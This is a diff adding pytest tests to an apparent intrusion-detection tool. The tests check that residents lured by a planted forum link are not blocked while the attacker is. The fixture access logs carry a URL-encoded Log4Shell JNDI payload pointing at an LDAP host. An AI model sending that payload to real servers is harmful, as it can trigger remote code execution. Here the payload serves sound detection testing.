@@ -193,3 +193,66 @@ def test_a_search_engine_s_crawler_fed_planted_links_is_never_blocked(tmp_path: 
     # a forger's address is no crawler's: blocked as any attacker's
     forged = msgspec.structs.replace(incident, entities={"source.ip": ["203.0.113.66"]})
     assert [e.address for e in block_entries(forged, [], now=now)] == ["203.0.113.66"]
+
+
+JNDI = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2FExploit%7D"
+FORUM = "https://forum.example.net/t/the-tax-deadline/981"
+
+
+def test_residents_sent_to_an_attack_by_a_planted_link_are_never_blocked(
+    tmp_path: Path,
+) -> None:
+    # A forum post embeds the portal's search with a JNDI lookup as an image: 30 residents'
+    # browsers each fetch it once within ten minutes. One incident at 100 blocked all 30 and
+    # gave partners their addresses as Log4Shell attackers' (analyst review h1). The one who
+    # planted it, trying the lookup from his own address six times, is blocked.
+    residents = [f"46.188.{k}.{10 + k}" for k in range(30)]
+    hits = [(20 * k, ip, JNDI, FORUM) for k, ip in enumerate(residents)]
+    hits += [(300 + 10 * k, STRANGER, f"{JNDI}{k}", "-") for k in range(6)]
+    lines = []
+    for t, ip, target, referrer in sorted(hits):
+        when = datetime.fromtimestamp(T0 + t, tz=UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
+        lines.append(f'{ip} - - [{when}] "GET {target} HTTP/1.1" 200 512 "{referrer}" "{UA}"')
+    log = tmp_path / "access.log"
+    log.write_text("\n".join(lines) + "\n")
+    settings = Settings(data_dir=tmp_path / "data", pseudonym_key=SecretStr("5a" * 32))
+    result = analyse(settings, [InputSpec.parse(f"access-log:{log}")], None, command="t")
+    dets = result.job.detections()
+    linked = [d for d in dets if d.attributes["portal"].get("referrer")]
+    assert {d.entity["source.ip"] for d in linked} == set(residents)
+    assert all(d.attributes["portal"]["referrer"] == "forum.example.net" for d in linked)
+    assert any(
+        "forum.example.net" in m and "taken down" in m
+        for m in linked[0].attributes["portal"]["measures"]
+    )
+    now = datetime.now(UTC)
+    blocked = [
+        e.address
+        for i in result.job.correlator.incidents()
+        for e in block_entries(i, dets, now=now)
+    ]
+    assert blocked == [STRANGER]
+    for incident in result.job.correlator.incidents():
+        bundle = export_bundle(incident, dets)
+        assert not any(ip in bundle for ip in residents)
+
+
+def test_four_addresses_by_one_link_are_no_crowd_of_browsers(tmp_path: Path) -> None:
+    # under LINK_CROWD a link's followers cannot be told from an attacker's few addresses
+    hits = [(20 * k, f"46.188.{k}.{10 + k}", JNDI, FORUM) for k in range(4)]
+    lines = []
+    for t, ip, target, referrer in hits:
+        when = datetime.fromtimestamp(T0 + t, tz=UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
+        lines.append(f'{ip} - - [{when}] "GET {target} HTTP/1.1" 200 512 "{referrer}" "{UA}"')
+    log = tmp_path / "access.log"
+    log.write_text("\n".join(lines) + "\n")
+    settings = Settings(data_dir=tmp_path / "data", pseudonym_key=SecretStr("5a" * 32))
+    result = analyse(settings, [InputSpec.parse(f"access-log:{log}")], None, command="t")
+    dets = result.job.detections()
+    now = datetime.now(UTC)
+    blocked = {
+        e.address
+        for i in result.job.correlator.incidents()
+        for e in block_entries(i, dets, now=now)
+    }
+    assert len(blocked) == 4
